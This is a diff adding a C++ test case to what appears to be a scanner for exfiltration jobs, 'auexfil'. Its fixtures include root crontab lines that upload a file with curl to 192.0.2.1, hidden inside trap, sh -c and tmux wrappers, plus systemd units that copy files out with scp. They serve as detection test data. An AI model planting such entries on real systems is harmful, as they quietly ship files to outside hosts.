@@ -533,6 +533,36 @@ TEST_CASE(
   CHECK(unfollowed.untold == c.untold);
 }
 
+TEST_CASE("registered: one job is told once") {
+  struct Case {
+    Files files;
+    Lines found;
+  };
+  const auto c = GENERATE(values<Case>({
+      {{{"/etc/crontab", "1 1 * * * root trap 'curl -T /a http://192.0.2.1/' EXIT; true\n"}},
+       {"/etc/crontab:1: curl out 192.0.2.1"}},
+      {{{"/etc/crontab", "1 1 * * * root sh -c 'curl -T /a http://192.0.2.1/'\n"}},
+       {"/etc/crontab:1: curl out 192.0.2.1"}},
+      {{{"/etc/crontab", "1 1 * * * root tmux new -d 'curl -T /a http://192.0.2.1/'\n"}},
+       {"/etc/crontab:1: curl out 192.0.2.1"}},
+      {{{"/etc/systemd/system/a@.service",
+         "[Service]\nExecStart=/usr/bin/scp /srv/%i b@192.0.2.1:%I\n"}},
+       {"/etc/systemd/system/a@.service: scp out 192.0.2.1"}},
+      {{{"/etc/systemd/system/a@.service",
+         "[Service]\nExecStart=/usr/bin/scp /srv/%i b@192.0.2.1:%I\n"},
+        {"/etc/systemd/system/b@.service", "[Service]\nExecStart=/usr/bin/scp /b b@192.0.2.2:\n"},
+        {"/etc/systemd/system/b@y.service.d/1.conf", "[Service]\nNice=1\n"},
+        {"/etc/systemd/system/a@.timer", "[Timer]\nOnCalendar=daily\n"},
+        {"/etc/systemd/system/timers.target.wants/a@x.timer", ""}},
+       {"/etc/systemd/system/a@.service: scp out 192.0.2.1",
+        "/etc/systemd/system/b@.service: scp out 192.0.2.2",
+        "/etc/systemd/system/b@y.service.d: scp out 192.0.2.2"}},
+  }));
+  const Image image(c.files);
+  const Inventory inventory = collect(image);
+  CHECK(told(find_registered(inventory, image, auexfil::test::rules().tools)) == c.found);
+}
+
 TEST_CASE("registered: when each ran last") {
   const Image image(Files{
       {"/etc/debian_version", "12\n"},
